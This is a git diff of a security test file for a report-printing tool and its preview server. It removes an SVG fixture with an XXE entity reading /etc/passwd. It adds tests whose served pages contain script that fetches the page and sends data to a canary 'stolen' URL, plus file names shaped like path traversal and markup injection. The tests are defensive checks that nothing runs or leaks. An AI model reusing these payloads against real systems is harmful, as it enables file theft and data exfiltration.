@@ -9,6 +9,7 @@ import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest'
 import { joinNames } from '../src/5-template/names.ts'
 import { launch } from '../src/6-print/index.ts'
 import { openPdf } from '../src/6-print/pdf/read.ts'
+import { type Site, serve } from '../src/preview/server.ts'
 import type { Edition } from '../src/report.ts'
 import { buildOnce, Session } from '../src/session.ts'
 import { messagesOf, sample, writeReport } from './report-folder.ts'
@@ -76,9 +77,6 @@ ${list('contents')}${list('figures')}${list('tables')}
     'templates/own/edition.liquid': `<html lang="zh-CN"><head><meta charset="utf-8">
 <title>{{ report.title }}</title></head>
 <body onload="document.body.append('it ran')">${hostile()}</body></html>`,
-    'chapters/square.svg': `<!DOCTYPE svg [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
-<svg xmlns="http://www.w3.org/2000/svg" width="90" height="90"><script>alert(1)</script>
-<image href="${canary}/inside.png" width="9" height="9"/><text>&secret;</text></svg>`,
   })
 
   test('prints, without having run, fetched or read anything', async () => {
@@ -104,6 +102,51 @@ ${list('contents')}${list('figures')}${list('tables')}
     } finally {
       await browser.close()
     }
+  })
+})
+
+describe('the preview', () => {
+  const script = () => `
+<script>
+  fetch('./').then((reply) => reply.text()).then((text) => fetch('${canary}/stolen?' + text.length))
+  fetch('open', { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"file":"report.yaml"}' })
+</script>
+<image href="${canary}/image.png" width="9" height="9"/>`
+
+  /** Answers every path with an active document, as if nobody had looked at it before. */
+  const opened: string[] = []
+  const site: Site = {
+    get: async (path) => ({
+      type: path.endsWith('.svg') ? 'image/svg+xml' : 'text/html; charset=utf-8',
+      body: path.endsWith('.svg') ? `<svg xmlns="http://www.w3.org/2000/svg">${script()}</svg>` : script(),
+    }),
+    library: async () => null,
+    post: async (path) => {
+      opened.push(path)
+      return null
+    },
+    connect: () => {},
+    disconnect: () => {},
+  }
+
+  test.each(['a.svg', 'a.html'])('runs nothing of %s, though it is opened by itself', async (name) => {
+    const served = await serve(site, 'key', '127.0.0.1', 0)
+    const browser = await launch()
+    try {
+      const tab = await browser.newPage()
+      await tab.goto(served.url + name, { waitUntil: 'networkidle0' })
+      expect(await tab.evaluate(() => self.origin)).toBe('null')
+      expect(opened).toEqual([])
+    } finally {
+      await browser.close()
+      await served.close()
+    }
+  })
+
+  test('shows no picture that runs something', async () => {
+    const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">${script()}</svg>`
+    const { files } = await check(await report({ 'chapters/square.svg': svg }))
+    expect(messagesOf(files)).toMatch(/ image-svg +yanbao/)
   })
 })
 
@@ -151,6 +194,30 @@ describe('nothing outside the folder is read', () => {
     const { files, print } = await check(root)
     expect(messagesOf(files)).toMatch(/ template-invalid +yanbao/)
     expect(print).toBe('')
+  })
+})
+
+describe('names of files', () => {
+  const odd = [
+    '03-增长50%.md',
+    '04 with spaces & #1.md',
+    `05-'quotes"<b>.md`,
+    '06-a\nb.md',
+    `07-${'长'.repeat(82)}.md`,
+    '08-..%2F..md',
+  ]
+
+  test('are names, whatever is in them', async () => {
+    const chapters = odd.map((name, at) => [`chapters/${name}`, `# 第${at}\n\n文字[^1]。\n\n[^1]: 脚注。\n`])
+    const root = await report({
+      ...Object.fromEntries(chapters),
+      'report.yaml': `${sample['report.yaml']}template: own\n`,
+      'templates/own/template.yaml': 'extends: house\n',
+      'templates/own/parts/heads.liquid': `<link rel="stylesheet" href="${canary}/style.css">`,
+    })
+    const { files, result } = await buildOnce(root, join(root, 'build'))
+    expect(messagesOf(files)).toBe('\n')
+    expect(result).not.toBeNull()
   })
 })
 
